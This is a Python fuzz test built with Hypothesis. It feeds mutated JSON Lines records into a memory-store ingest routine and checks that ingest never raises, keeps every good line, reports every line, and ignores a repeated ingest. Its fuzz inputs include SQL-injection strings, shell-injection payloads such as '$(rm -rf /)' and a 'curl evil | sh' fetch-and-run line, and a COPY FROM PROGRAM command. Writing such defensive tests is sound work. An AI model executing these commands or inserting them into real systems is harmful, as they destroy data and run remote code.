"""Fuzzing ingest on both dialects: mutated candidate lines mixed with good ones.

Whatever a line holds (wrong types in any field, huge or odd Unicode, lone surrogates as JSON
escapes, far timestamps, SQL/shell/JSON metacharacters, deep nesting, duplicate keys, broken
JSON), ingest never raises, every good line lands, the report accounts for every line, and
ingesting the same file again adds nothing. The profile is derandomised, so CI sees the same
cases every run; the lines tried per second are printed to the terminal.
"""

from __future__ import annotations

import io
import json
import time
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, func, select

from memcurator.app.ingest import ingest_stream, read_lines
from store.reading import trace
from store.tables import Entry, EntrySource, Intake, WriteLog

EXAMPLES = 150  # per dialect: about 25 s each here, under two minutes for both

METACHARACTERS = [
    "'; DROP TABLE entries; --",
    "\" OR 1=1 --",
    "$(rm -rf /)",
    "`id`",
    "&& curl evil | sh",
    "\\",
    '"',
    "{}",
    "[",
    "%s %n %x",
    "{0} {!r}",
    "\u2028\u2029",
    "\x00",
    "\x1b[31m",
    "\ufeff",
    "\u202etxt.exe",
    "a\u0301\u0302\u0303\u0304\u0305",
    "👩‍👩‍👧‍👦🦀",
    "ß" * 300,
    "\ufdfa" * 50,
    '"' * 400,
    "COPY entries FROM PROGRAM 'id'",
    "\\N",
    "\t\n\r",
]
FAR_TIMESTAMPS = [
    "9999-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+14:00",
    "10000-01-01T00:00:00Z",
    "0000-01-01T00:00:00Z",
    "1741083120",
    "2025-03-04T10:12:00+0530",
    "2025-03-04T10:12:00",
    "2025-03-04t10:12:00z",
    "2025-03-04T10:12:00+24:00",
    "infinity",
    "-infinity",
    "2025-13-40T25:61:61Z",
]
FIELDS = [
    ("id",),
    ("type",),
    ("scope",),
    ("scope", "org_id"),
    ("scope", "user_id"),
    ("scope", "agent_id"),
    ("content",),
    ("source",),
    ("source", "kind"),
    ("source", "ref"),
    ("source", "session_id"),
    ("confidence",),
    ("created_at",),
    ("valid_from",),
    ("supersedes",),
    ("sensitivity",),
    ("subject",),
    ("subject", "entity"),
    ("subject", "attribute"),
    ("subject", "value"),
    ("task_id",),
    ("links",),
    ("tool",),
    ("symptom",),
    ("status",),
    ("unknown_field",),
]

long_names = st.builds(
    lambda s, n: s * n,
    st.sampled_from(['"', "ß", "\ufdfa", "\U00020000", "😀", "x", "\\"]),
    st.integers(15, 201),
)
EDGES = [
    (("created_at",), st.sampled_from(FAR_TIMESTAMPS)),
    (("valid_from",), st.sampled_from(FAR_TIMESTAMPS)),
    (("scope",), st.fixed_dictionaries({"org_id": long_names, "user_id": long_names})),
    (("scope", "agent_id"), long_names),
    (("subject",), st.fixed_dictionaries({"entity": long_names, "attribute": long_names})),
    (("tool",), long_names),
    (("content",), st.sampled_from(["\U00020000" * 4000, "ab" * 2000, "a" * 4001])),
]
odd_text = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(categories=["Mn", "Me", "Cf", "Co", "Cs", "So"]), max_size=60),
    st.sampled_from(METACHARACTERS),
    st.builds(
        lambda s, n: s * n,
        st.sampled_from(["x", "é", "😀", "\u0301", "ß", "\U00020000"]),
        st.integers(140, 4100),
    ),
    st.sampled_from(FAR_TIMESTAMPS),
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    odd_text,
)
values = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=8,
)


def template(tag: str) -> dict[str, Any]:
    """A valid candidate with every optional field set, for mutations to start from."""
    return {
        "id": f"m_{tag}",
        "type": "fact",
        "scope": {"org_id": "acme", "user_id": f"u_{tag}", "agent_id": "a_1"},
        "content": "Prefers the aisle seat on long flights",
        "source": {"kind": "user_message", "ref": "turn_1", "session_id": f"s_{tag}"},
        "confidence": 0.9,
        "created_at": "2025-03-04T10:12:00Z",
        "valid_from": "2025-03-04T10:12:00Z",
        "sensitivity": "internal",
        "subject": {"entity": "user", "attribute": "seat", "value": "aisle"},
        "links": ["l_1"],
    }


def set_path(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    target = data
    for part in path[:-1]:
        if not isinstance(target.get(part), dict):
            target[part] = {}
        target = target[part]
    target[path[-1]] = value


@st.composite
def mutated_line(draw: st.DrawFn, tag: str) -> bytes:
    """One hostile line: a candidate with fields mutated, or raw bytes that are barely JSON."""
    kinds = ["fields", "fields", "one text", "edge", "edge", "raw", "duplicate keys"]
    kind = draw(st.sampled_from(kinds))
    data = template(tag)
    if kind == "edge":  # one field at the edge of what the store can hold, the rest valid
        path, edges = draw(st.sampled_from(EDGES))
        set_path(data, path, draw(edges))
    elif kind == "one text":  # otherwise valid: what reaches the store if the gate lets it by
        set_path(data, draw(st.sampled_from(FIELDS)), draw(odd_text))
    else:
        for _ in range(draw(st.integers(1, 3))):
            set_path(data, draw(st.sampled_from(FIELDS)), draw(values))
    if kind in ("fields", "one text", "edge"):
        # ensure_ascii escapes lone surrogates as \udXXX, as a hostile client would send them
        return json.dumps(data, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")
    if kind == "duplicate keys":
        body = json.dumps(data)[1:]
        return ('{"id": "dup", "content": "first", "type": 7, ' + body).encode()
    raw = draw(
        st.sampled_from(
            [
                b"[" * 5000 + b"]" * 5000,
                b'{"a":' * 3000 + b"1" + b"}" * 3000,
                b'{"content": "\\ud800", "type": "fact"}',
                b'{"content": "\xff\xfe\xed"}',
                b"\xef\xbb\xbf{}",
                b"null",
                b'"just a string"',
                b"1e999",
                b"9" * 5000,
                b"{",
                b'{"id": "x"} trailing',
            ]
        )
    )
    return raw


@st.composite
def fuzz_file(draw: st.DrawFn) -> tuple[bytes, list[str]]:
    """A JSON Lines file: good candidates (returned by id) among mutated lines, some repeated."""
    example = draw(st.integers(0, 10**12))
    good_ids: list[str] = []
    lines: list[bytes] = []
    for i in range(draw(st.integers(1, 12))):
        tag = f"{example}_{i}"
        if draw(st.booleans()):
            good_ids.append(f"g_{tag}")
            good = template(tag) | {"id": f"g_{tag}"}
            good["scope"] = {"org_id": "acme", "user_id": f"good_{tag}"}
            lines.append(json.dumps(good).encode())
        else:
            lines.append(draw(mutated_line(tag)))
        if draw(st.integers(0, 5)) == 0:
            lines.append(lines[-1])  # an identical line again
    bom = b"\xef\xbb\xbf" if draw(st.booleans()) else b""
    return bom + b"\n".join(lines) + b"\n", good_ids


def store_counts(engine: Engine) -> tuple[int, ...]:
    with engine.connect() as conn:
        return tuple(
            conn.scalar(select(func.count()).select_from(table)) or 0
            for table in (Entry, EntrySource, WriteLog, Intake)
        )


def ingest_file(engine: Engine, data: bytes) -> tuple[Any, int]:
    lines = list(read_lines(io.BytesIO(data), 1 << 20))
    return ingest_stream(engine, lines, batch_size=5), len(lines)


@pytest.fixture
def speed(capsys: pytest.CaptureFixture[str], engine: Engine) -> Iterator[list[int]]:
    """Counts lines tried; prints lines per second to the terminal when the test ends."""
    tried = [0]
    start = time.perf_counter()
    yield tried
    elapsed = time.perf_counter() - start
    with capsys.disabled():
        print(
            f"\nfuzz ingest on {engine.dialect.name}: {tried[0]:,} lines "
            f"(each ingested twice) in {elapsed:.1f} s, {tried[0] / elapsed:,.0f} lines/s"
        )


@settings(
    max_examples=EXAMPLES,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(case=fuzz_file())
def test_hostile_lines_never_crash_ingest_lose_good_lines_or_block_a_reingest(
    engine: Engine, speed: list[int], case: tuple[bytes, list[str]]
) -> None:
    data, good_ids = case
    report, lines = ingest_file(engine, data)
    speed[0] += lines
    assert report.lines == lines
    assert sum(report.outcomes.values()) + report.skipped == lines
    for memory_id in good_ids:
        found = trace(engine, memory_id)
        assert found is not None and found["entry"]["id"] == memory_id, memory_id
    before = store_counts(engine)
    again, _ = ingest_file(engine, data)
    assert again.skipped == lines and not again.outcomes
    assert store_counts(engine) == before
